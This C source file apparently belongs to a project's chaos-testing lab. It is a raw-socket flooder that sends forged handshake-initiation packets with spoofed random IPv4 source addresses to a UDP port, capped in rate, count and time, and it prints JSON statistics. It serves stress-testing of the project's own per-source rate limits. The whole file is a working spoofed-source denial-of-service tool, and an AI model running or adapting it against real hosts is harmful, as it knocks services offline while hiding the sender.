/*
 * Chaos-lab flooder with forged SOURCE ADDRESSES (run inside a lab namespace, as root): the same
 * forged handshake initiations as flood.ts (148 bytes, type 1, reserved bytes zero, the rest random
 * so mac1 never verifies), but each from a random IPv4 source in SRC_NET/SRC_PREFIX, sent through
 * a raw socket (IP_HDRINCL) with sendmmsg, 64 per call, paced from the elapsed time. This is the
 * attacker a per-source limit cannot stop; bounded in count and time.
 *
 * Built by the chaos runner with the system C compiler into the lab's directory (never committed
 * as a binary). Prints one JSON line like flood.ts: { sent, seconds, rate, eagain, cpuS, cpuPct }.
 * Usage: flood-raw DST_ADDR DST_PORT RATE SECONDS MAX SRC_NET SRC_PREFIX
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define PAYLOAD 148
#define PKT (20 + 8 + PAYLOAD)

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;
static uint64_t rnd(void) { /* xorshift64* */
  rng_state ^= rng_state >> 12;
  rng_state ^= rng_state << 25;
  rng_state ^= rng_state >> 27;
  return rng_state * 0x2545f4914f6cdd1dull;
}

static uint16_t csum(const void *p, size_t n) {
  const uint8_t *b = p;
  uint32_t s = 0;
  for (size_t i = 0; i + 1 < n; i += 2) s += (uint32_t)(b[i] << 8 | b[i + 1]);
  if (n & 1) s += (uint32_t)b[n - 1] << 8;
  while (s >> 16) s = (s & 0xffff) + (s >> 16);
  return htons((uint16_t)~s);
}

int main(int argc, char **argv) {
  if (argc != 8) {
    fprintf(stderr, "usage: flood-raw DST_ADDR DST_PORT RATE SECONDS MAX SRC_NET SRC_PREFIX\n");
    return 2;
  }
  struct in_addr dst, srcnet;
  if (inet_pton(AF_INET, argv[1], &dst) != 1 || inet_pton(AF_INET, argv[6], &srcnet) != 1) {
    fprintf(stderr, "flood-raw: bad address\n");
    return 2;
  }
  const int port = atoi(argv[2]);
  const double rate = atof(argv[3]), secs = atof(argv[4]);
  const long maxn = atol(argv[5]);
  const int prefix = atoi(argv[7]);
  if (port < 1 || port > 65535 || rate <= 0 || rate > 1e6 || secs <= 0 || secs > 600 || maxn < 1 || prefix < 8 || prefix > 32) {
    fprintf(stderr, "flood-raw: argument out of range\n");
    return 2;
  }
  const uint32_t net = ntohl(srcnet.s_addr) & (prefix == 32 ? 0xffffffffu : ~(0xffffffffu >> prefix));
  const uint32_t hostmask = prefix == 32 ? 0 : 0xffffffffu >> prefix;
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* IPPROTO_RAW implies IP_HDRINCL */
  if (fd < 0) {
    perror("flood-raw: socket");
    return 1;
  }
  int sndbuf = 4 << 20;
  setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);
  rng_state ^= (uint64_t)getpid() << 17;

  static uint8_t pkts[BATCH][PKT];
  struct iovec iov[BATCH];
  struct mmsghdr msgs[BATCH];
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
  memset(msgs, 0, sizeof msgs);
  for (int i = 0; i < BATCH; i++) {
    iov[i].iov_base = pkts[i];
    iov[i].iov_len = PKT;
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
    msgs[i].msg_hdr.msg_name = &to;
    msgs[i].msg_hdr.msg_namelen = sizeof to;
  }

  long sent = 0, eagain = 0;
  const double t0 = now_s();
  for (;;) {
    const double t = now_s() - t0;
    if (t >= secs || sent >= maxn) break;
    long due = (long)(t * rate);
    if (due > maxn) due = maxn;
    if (sent >= due) {
      struct timespec ts = {0, 200000}; /* 0.2 ms */
      nanosleep(&ts, NULL);
      continue;
    }
    int n = (int)((due - sent) < BATCH ? (due - sent) : BATCH);
    for (int i = 0; i < n; i++) {
      uint8_t *p = pkts[i];
      struct iphdr *ip = (struct iphdr *)p;
      struct udphdr *udp = (struct udphdr *)(p + 20);
      uint8_t *pl = p + 28;
      memset(ip, 0, sizeof *ip);
      ip->version = 4;
      ip->ihl = 5;
      ip->tot_len = htons(PKT);
      ip->id = (uint16_t)rnd();
      ip->ttl = 64;
      ip->protocol = IPPROTO_UDP;
      uint32_t host = (uint32_t)rnd() & hostmask;
      if (hostmask > 1 && (host == 0 || host == hostmask)) host = 1;
      ip->saddr = htonl(net | host);
      ip->daddr = dst.s_addr;
      ip->check = csum(ip, 20);
      udp->source = htons((uint16_t)(1024 + rnd() % 60000));
      udp->dest = htons((uint16_t)port);
      udp->len = htons(8 + PAYLOAD);
      udp->check = 0; /* optional over IPv4 */
      for (int k = 0; k < PAYLOAD; k += 8) {
        uint64_t r = rnd();
        memcpy(pl + k, &r, PAYLOAD - k < 8 ? (size_t)(PAYLOAD - k) : 8);
      }
      pl[0] = 1;
      pl[1] = pl[2] = pl[3] = 0;
    }
    int c = sendmmsg(fd, msgs, (unsigned)n, 0);
    if (c < 0) {
      if (errno == EAGAIN || errno == ENOBUFS || errno == EINTR) {
        eagain++;
        continue;
      }
      perror("flood-raw: sendmmsg");
      return 1;
    }
    sent += c;
    if (c < n) eagain++;
  }
  const double dt = now_s() - t0;
  struct rusage ru;
  getrusage(RUSAGE_SELF, &ru);
  const double cpu = (double)ru.ru_utime.tv_sec + ru.ru_utime.tv_usec / 1e6 + (double)ru.ru_stime.tv_sec + ru.ru_stime.tv_usec / 1e6;
  printf("{\"sent\":%ld,\"seconds\":%.3f,\"rate\":%ld,\"eagain\":%ld,\"cpuS\":%.2f,\"cpuPct\":%.1f}\n", sent, dt, (long)(sent / dt), eagain, cpu,
         dt > 0 ? cpu / dt * 100 : 0);
  close(fd);
  return 0;
}
